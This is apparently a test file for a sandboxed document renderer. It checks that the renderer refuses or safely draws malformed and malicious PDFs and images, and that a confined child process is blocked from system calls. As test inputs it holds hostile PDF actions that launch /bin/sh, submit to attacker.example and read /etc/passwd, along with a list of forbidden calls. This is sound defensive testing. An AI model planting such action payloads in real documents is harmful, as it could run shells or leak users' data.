"""Pages are drawn as images, and no document harms the process that draws it."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PIL import Image
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

from billhook.portal.documents.limits import (
    MAX_CHARACTERS,
    MAX_PAGES,
    MAX_PIXELS,
    TEXT_SCALE,
    Reason,
)
from billhook.portal.documents.renderer import PAGE_WIDTH, CannotShow, PageSize, Renderer, TextLine
from portal.documents import hostile_documents as hostile

PDF = "application/pdf"


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    made = Renderer(size=1, seconds=60)
    yield made
    made.close()


def draw(
    renderer: Renderer, document: bytes, media_type: str = PDF, *, number: int = 1, width: int = 300
) -> Image.Image:
    png = renderer.page(io.BytesIO(document), media_type, number=number, width=width)
    return Image.open(io.BytesIO(png), formats=["PNG"]).convert("RGB")


def refusal(renderer: Renderer, document: bytes, media_type: str = PDF) -> Reason:
    reason = refusal_or_none(renderer, document, media_type)
    assert reason is not None
    return reason


def refusal_or_none(renderer: Renderer, document: bytes, media_type: str = PDF) -> Reason | None:
    try:
        renderer.pages(io.BytesIO(document), media_type)
        renderer.page(io.BytesIO(document), media_type, number=1)
    except CannotShow as refused:
        return refused.reason
    return None


def test_a_page_image_shows_the_content_of_the_document(renderer: Renderer) -> None:
    drawn = draw(renderer, hostile.good_pdf(), width=595)
    assert drawn.size == (595, 841)
    assert drawn.getpixel((50, 50)) == (255, 0, 0)
    assert drawn.getpixel((300, 800)) == (255, 255, 255)


def test_each_page_is_drawn_by_its_number(renderer: Renderer) -> None:
    document = hostile.good_pdf(pages=2)
    first, second = (draw(renderer, document, number=number) for number in (1, 2))
    assert first.tobytes() != second.tobytes()


def test_the_pages_are_counted_and_measured_at_once(renderer: Renderer) -> None:
    pages = renderer.pages(io.BytesIO(hostile.good_pdf(pages=3, size=(200, 100))), PDF)
    assert pages.count == 3
    assert pages.sizes == (PageSize(width=200, height=100),) * 3


def test_the_reported_size_is_the_drawn_size(renderer: Renderer) -> None:
    document = hostile.good_pdf(size=hostile.A4)
    told = renderer.pages(io.BytesIO(document), PDF).sizes[0].pixels()
    assert draw(renderer, document, width=PAGE_WIDTH).size == told


@pytest.mark.parametrize("number", [0, 2, -1, 10**9], ids=["zero", "after", "minus", "far"])
def test_a_page_that_does_not_exist_is_refused(renderer: Renderer, number: int) -> None:
    with pytest.raises(CannotShow) as caught:
        renderer.page(io.BytesIO(hostile.good_pdf()), PDF, number=number)
    assert caught.value.reason is Reason.NO_SUCH_PAGE


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        pytest.param(hostile.good_pdf(password="secret"), Reason.PROTECTED, id="password"),
        pytest.param(b"%PDF-1.7\nnonsense\n%%EOF\n", Reason.DAMAGED, id="nonsense"),
        pytest.param(hostile.good_pdf()[:300], Reason.DAMAGED, id="cut short"),
        pytest.param(b"", Reason.DAMAGED, id="empty"),
        pytest.param(hostile.raw_pdf(kids="[]", count=0), Reason.DAMAGED, id="no pages"),
    ],
)
def test_a_document_that_cannot_be_shown_is_reported_with_its_reason(
    renderer: Renderer, document: bytes, reason: Reason
) -> None:
    assert refusal(renderer, document) is reason


def test_every_reason_has_its_own_sentence() -> None:
    sentences = {reason.message for reason in Reason}
    assert len(sentences) == len(Reason)
    assert all(sentence.endswith(".") for sentence in sentences)


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda: hostile.raw_pdf(xref=False), id="broken xref"),
        pytest.param(lambda: hostile.raw_pdf(box="[0 0 0 0]"), id="empty box"),
        pytest.param(lambda: hostile.raw_pdf(box="[300 300 0 0]"), id="upside-down box"),
        pytest.param(lambda: hostile.raw_pdf(box="[0 0 nan 300]"), id="box without numbers"),
        pytest.param(lambda: hostile.raw_pdf(box="[0 0 99999999 99999999]"), id="huge box"),
        pytest.param(lambda: hostile.raw_pdf(box="[0 0 14400 0.01]"), id="box like a thread"),
        pytest.param(lambda: hostile.raw_pdf(box="[0 0 0.01 14400]"), id="box like a pole"),
        pytest.param(lambda: hostile.raw_pdf(count=2**31 - 1), id="two thousand million pages"),
        pytest.param(hostile.deep_array_pdf, id="deep arrays"),
        pytest.param(hostile.deep_tree_pdf, id="deep page tree"),
        pytest.param(hostile.circular_tree_pdf, id="circular page tree"),
        pytest.param(hostile.circular_form_pdf, id="form in itself"),
        pytest.param(hostile.bomb_pdf, id="bomb"),
    ],
)
def test_a_hostile_document_is_drawn_within_limits_or_refused(
    renderer: Renderer, make: Callable[[], bytes]
) -> None:
    document = make()
    refused = refusal_or_none(renderer, document)
    assert refused in {None, Reason.DAMAGED, Reason.TOO_LARGE, Reason.TOO_SLOW}
    if refused is None:
        assert len(renderer.pages(io.BytesIO(document), PDF).sizes) <= MAX_PAGES
        drawn = draw(renderer, document, width=PAGE_WIDTH)
        assert drawn.width * drawn.height <= MAX_PIXELS * 1.01
    assert draw(renderer, hostile.good_pdf()).getpixel((10, 10)) == (255, 0, 0)


@pytest.mark.parametrize(
    "action",
    [
        "<< /S /JavaScript /JS (while\\(true\\){}) >>",
        "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        "<< /S /URI /URI (https://attacker.example/) >>",
        "<< /S /SubmitForm /F (https://attacker.example/) >>",
        "<< /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>",
        "<< /S /ImportData /F (/etc/passwd) >>",
    ],
    ids=lambda action: action.split("/")[2].split()[0],
)
def test_actions_in_a_document_are_never_executed(renderer: Renderer, action: str) -> None:
    assert draw(renderer, hostile.action_pdf(action)).getpixel((150, 150)) == (255, 0, 0)


def test_a_document_that_takes_too_long_is_given_up_and_the_next_is_drawn() -> None:
    renderer = Renderer(size=1, seconds=1)
    assert refusal(renderer, hostile.endless_pdf()) is Reason.TOO_SLOW
    assert draw(renderer, hostile.good_pdf()).getpixel((10, 10)) == (255, 0, 0)
    renderer.close()


def test_the_system_kills_a_child_that_uses_up_its_cpu_time() -> None:
    program = (
        "import billhook.portal.documents.limits as limits; limits.MAX_CPU_SECONDS = 1;"
        "from billhook.portal.documents.renderer_process import main; main()"
    )
    renderer = Renderer(size=1, seconds=60, command=(sys.executable, "-I", "-c", program))
    assert refusal(renderer, hostile.endless_pdf()) is Reason.TOO_SLOW
    renderer.close()


def test_a_killed_process_is_replaced(renderer: Renderer) -> None:
    draw(renderer, hostile.good_pdf())
    process = renderer._places.get_nowait()
    assert process is not None
    process._kill_group()
    renderer._places.put(process)
    assert refusal(renderer, hostile.good_pdf()) is Reason.DAMAGED
    assert draw(renderer, hostile.good_pdf()).getpixel((10, 10)) == (255, 0, 0)


def test_a_document_waits_its_turn_but_not_forever() -> None:
    renderer = Renderer(size=1, patience=0.01)
    place = renderer._places.get()
    assert refusal(renderer, hostile.good_pdf()) is Reason.BUSY
    renderer._places.put(place)
    assert draw(renderer, hostile.good_pdf()).getpixel((10, 10)) == (255, 0, 0)
    renderer.close()


@pytest.mark.parametrize(
    "answer",
    [
        "write_head(out, {'asked': 'another', 'count': 1, 'sizes': [[1, 1]]}, 0)",
        "write_head(out, {**asked, 'count': 'many', 'sizes': []}, 0)",
        "write_head(out, {**asked, 'count': 1, 'sizes': [[0, -1]]}, 0)",
        "write_head(out, {**asked, 'refused': '<script>'}, 0)",
        "write_head(out, {**asked}, 2**40)",
        "out.write(bytes(100))",
        "out.write(b'\\x00\\x00\\x00\\x02' + bytes(8) + b'[]')",
        "pass",
    ],
    ids=[
        "of another",
        "no count",
        "no size",
        "no reason",
        "too long",
        "zeros",
        "a list",
        "nothing",
    ],
)
def test_output_of_a_compromised_process_is_not_trusted(answer: str) -> None:
    program = (
        "import sys; from billhook.portal.documents.frames import read_head, write_head;"
        "out = sys.stdout.buffer; head, size = read_head(sys.stdin.buffer, max_body=2**30);"
        f"sys.stdin.buffer.read(size); asked = {{'asked': head['asked']}}; {answer}; out.flush()"
    )
    renderer = Renderer(size=1, command=(sys.executable, "-I", "-c", program))
    with pytest.raises(CannotShow) as caught:
        renderer.pages(io.BytesIO(hostile.good_pdf()), PDF)
    assert caught.value.reason is Reason.DAMAGED
    renderer.close()


def lines_of(renderer: Renderer, document: bytes) -> list[list[TextLine]]:
    return renderer.text(io.BytesIO(document), PDF, pages=50)


def test_the_text_of_a_page_is_given_line_by_line_with_its_place(renderer: Renderer) -> None:
    document = hostile.text_pdf((60, 100, "IBAN DE02 1203 0000"), (60, 700, "Total 1,240.00"))
    ((first, second),) = lines_of(renderer, document)
    assert (first.text, second.text) == ("IBAN DE02 1203 0000", "Total 1,240.00")
    assert first.left == pytest.approx(60 / hostile.A4[0] * TEXT_SCALE, abs=20)
    assert first.top < 100 / hostile.A4[1] * TEXT_SCALE < first.top + first.height
    assert first.width == pytest.approx(120 / hostile.A4[0] * TEXT_SCALE, rel=0.2)
    assert second.top > 6 * first.top


def test_columns_of_a_table_are_lines_of_their_own(renderer: Renderer) -> None:
    document = hostile.text_pdf((60, 100, "Consulting"), (400, 100, "900.00"))
    assert [line.text for line in lines_of(renderer, document)[0]] == ["Consulting", "900.00"]


def test_the_text_of_a_turned_page_is_where_it_is_seen(renderer: Renderer) -> None:
    (line,) = lines_of(renderer, hostile.text_pdf((60, 100, "On its side"), turned=90))[0]
    assert line.height > 3 * line.width
    assert line.left > TEXT_SCALE * 0.8


def test_every_script_keeps_its_signs(renderer: Renderer) -> None:
    pdfmetrics.registerFont(UnicodeCIDFont("HeiseiMin-W3"))
    written = io.BytesIO()
    canvas = Canvas(written, pagesize=hostile.A4)
    canvas.setFont("HeiseiMin-W3", 12)
    canvas.drawString(60, 700, "請求書 合計")
    canvas.save()
    assert "請求書" in lines_of(renderer, written.getvalue())[0][0].text


def test_pages_without_text_have_none(renderer: Renderer) -> None:
    assert lines_of(renderer, hostile.raw_pdf()) == [[]]
    assert renderer.text(io.BytesIO(hostile.image("PNG")), "image/png", pages=50) == []


def test_text_beyond_the_limit_is_left_out(renderer: Renderer) -> None:
    content = b"BT /F 1 Tf " + b"1 0 0 1 9 9 Tm (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 9000
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    document = hostile.raw_pdf(
        content + b"ET", page="/Resources << /Font << /F 5 0 R >> >>", more=(font,)
    )
    (lines,) = lines_of(renderer, document)
    assert 0 < sum(len(line.text) for line in lines) <= MAX_CHARACTERS


@pytest.mark.parametrize(
    "body",
    [b"{}", b"[1]", b"[[1]]", b"[[[0,0,0,0,7]]]", b'[[[0,0,0,99999,"a"]]]', b"[" * 99_999, b"\xff"],
    ids=["no list", "no page", "no line", "no text", "outside", "deep", "no text at all"],
)
def test_text_of_a_compromised_process_is_not_trusted(body: bytes) -> None:
    program = (
        "import sys; from billhook.portal.documents.frames import read_head, write_head;"
        "out = sys.stdout.buffer; head, size = read_head(sys.stdin.buffer, max_body=2**30);"
        f"sys.stdin.buffer.read(size); body = {body!r};"
        "write_head(out, {'asked': head['asked']}, len(body)); out.write(body); out.flush()"
    )
    renderer = Renderer(size=1, command=(sys.executable, "-I", "-c", program))
    with pytest.raises(CannotShow) as caught:
        lines_of(renderer, hostile.good_pdf())
    assert caught.value.reason is Reason.DAMAGED
    renderer.close()


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_the_process_gets_no_environment(
    renderer: Renderer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BILLHOOK_CANARY", "secret")
    fresh = Renderer(size=1)
    fresh.warm_up()
    process = fresh._places.get_nowait()
    assert process is not None
    draw_first = hostile.good_pdf()
    fresh._places.put(process)
    draw(fresh, draw_first)
    assert Path(f"/proc/{process._process.pid}/environ").read_bytes() == b""
    fresh.close()


_FORBIDDEN = {
    "open a file": "open('/etc/passwd')",
    "open a socket": "_socket.socket()",
    "start a process": "os.fork()",
    "become a program": "os.execv('/bin/true', ['true'])",
    "send a signal": "os.kill(os.getppid(), 0)",
    "delete a file": "os.unlink('/tmp/billhook-is-not-here')",
}


@pytest.mark.parametrize("what", _FORBIDDEN)
def test_a_confined_process_cannot(what: str) -> None:
    program = (
        "import os, _socket;"
        "from billhook.engine.isolation.confinement import Fence, confine_this_process;"
        "fence = Fence(address_space=1 << 30, cpu_seconds=10);"
        "print('filter' if confine_this_process(fence) else 'limits', flush=True);"
        f"{_FORBIDDEN[what]}; print('done')"
    )
    ended = subprocess.run(
        [sys.executable, "-I", "-c", program], capture_output=True, text=True, check=False
    )
    if ended.stdout.startswith("limits") and "open" not in what:
        pytest.skip("this system has no seccomp filter")
    assert "done" not in ended.stdout
    assert ended.returncode != 0
    assert "rror" in ended.stderr
    assert os.path.exists("/etc/passwd")  # noqa: PTH110 -- the fact behind the first case


def test_an_image_is_one_page(renderer: Renderer) -> None:
    pages = renderer.pages(io.BytesIO(hostile.image("PNG")), "image/png")
    assert (pages.count, pages.sizes) == (1, (PageSize(width=60, height=30),))


def test_an_image_is_drawn_on_white_and_not_enlarged(renderer: Renderer) -> None:
    drawn = draw(renderer, hostile.image("PNG"), "image/png", width=1400)
    assert drawn.size == (60, 30)
    assert drawn.getpixel((10, 15)) == (0, 0, 255)
    assert drawn.getpixel((50, 15)) == (255, 255, 255)


def test_a_photograph_is_turned_upright(renderer: Renderer) -> None:
    document = hostile.image("JPEG", orientation=6)
    pages = renderer.pages(io.BytesIO(document), "image/jpeg")
    assert pages.sizes == (PageSize(width=30, height=60),)
    red, green, blue = draw(renderer, document, "image/jpeg").getpixel((15, 10))
    assert (red < 30, green < 30, blue > 200) == (True, True, True)


def tiff(*colours: str, compression: str | None = None) -> bytes:
    pages = [Image.new("RGB", (60 + number, 80), each) for number, each in enumerate(colours)]
    file = io.BytesIO()
    pages[0].save(file, "TIFF", save_all=True, append_images=pages[1:], compression=compression)
    return file.getvalue()


@pytest.mark.parametrize("compression", [None, "tiff_lzw", "tiff_deflate", "jpeg", "packbits"])
def test_every_page_of_a_tiff_is_counted(renderer: Renderer, compression: str | None) -> None:
    document = tiff("red", "blue", compression=compression)
    pages = renderer.pages(io.BytesIO(document), "image/tiff")
    assert [(size.width, size.height) for size in pages.sizes] == [(60, 80), (61, 80)]
    first, second = (draw(renderer, document, "image/tiff", number=page) for page in (1, 2))
    assert first.getpixel((30, 40))[0] > 250
    assert second.getpixel((30, 40))[2] > 250


def test_a_truncated_tiff_is_reported_as_damaged(renderer: Renderer) -> None:
    assert refusal(renderer, tiff("red", "blue")[:5000], "image/tiff") is Reason.DAMAGED


@pytest.mark.parametrize(
    ("document", "media_type", "reason"),
    [
        pytest.param(hostile.huge_png(), "image/png", Reason.TOO_LARGE, id="huge"),
        pytest.param(hostile.huge_png(8000, 8000), "image/png", Reason.DAMAGED, id="few pixels"),
        pytest.param(b"\x89PNG\r\n\x1a\n", "image/png", Reason.DAMAGED, id="no image"),
        pytest.param(hostile.image("JPEG")[:200], "image/jpeg", Reason.DAMAGED, id="cut short"),
        pytest.param(b"<svg/>", "image/svg+xml", Reason.OTHER_KIND, id="another kind"),
    ],
)
def test_an_image_that_cannot_be_shown_is_reported_with_its_reason(
    renderer: Renderer, document: bytes, media_type: str, reason: Reason
) -> None:
    assert refusal(renderer, document, media_type) is reason


def test_a_document_beyond_the_limit_is_not_even_sent(renderer: Renderer, tmp_path: Path) -> None:
    sparse = tmp_path / "large.pdf"
    with sparse.open("wb") as file:
        file.truncate(65 * 1024 * 1024)
    with sparse.open("rb") as file, pytest.raises(CannotShow) as caught:
        renderer.pages(file, PDF)
    assert caught.value.reason is Reason.TOO_LARGE
